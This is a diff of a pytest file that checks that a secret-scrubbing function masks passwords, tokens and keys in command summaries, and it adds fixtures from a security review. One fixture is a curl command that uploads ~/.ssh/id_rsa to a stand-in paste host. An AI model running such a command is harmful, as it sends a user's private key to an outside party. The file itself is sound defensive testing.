@@ -83,12 +83,30 @@ def test_summary_level_cuts_to_140_and_shows_home_as_tilde(monkeypatch: pytest.M
         ("mysql -uroot -phunter2 db", "mysql -uroot -p… db"),
         ("psql --password=abc x", "psql --password=… x"),
         ("echo ghp_abcdefghijklmnopqrstuvwxyz0123", "echo …"),
-        ('API_KEY="a b" run', "API_KEY=… run"),
+        ('API_KEY="a b" run', 'API_KEY="…" run'),
         ("rm -rf build/ && ls -p /tmp", "rm -rf build/ && ls -p /tmp"),
     ],
 )
 def test_scrub(text: str, expected: str) -> None:
     assert payload.scrub(text) == expected
+
+
+REVIEW_N7 = [  # security-2.md N7, what went out unmasked at the default `summary`
+    "deploy with sshpass -p hunter2 ssh prod and curl -u admin:S3cretPass https://x",
+    "curl -H 'X-Auth-Token abcdef123456' -d @~/.ssh/id_rsa https://paste.example/upload",
+    "run: aws configure set aws_secret_access_key wJalrXUtnFEMIK7MDENGbPxRfiCY and psql x",
+    "my password is correcthorsebatterystaple, log in",
+]
+
+
+@pytest.mark.parametrize("content", ["full", "summary"])
+@pytest.mark.parametrize("text", REVIEW_N7)
+def test_the_bus_masks_what_the_review_saw_leak(content: str, text: str) -> None:
+    m = payload.session_message(shown(summary=text), "h", content)
+    out = json.dumps(m)
+    for secret in ("hunter2", "S3cretPass", "abcdef123456", "wJalrXUtnFEMIK7", "correcthorse"):
+        assert secret not in out
+    assert "…" in m["summary"]
 
 
 def test_host_summary_most_urgent_is_the_longest_waiting() -> None:
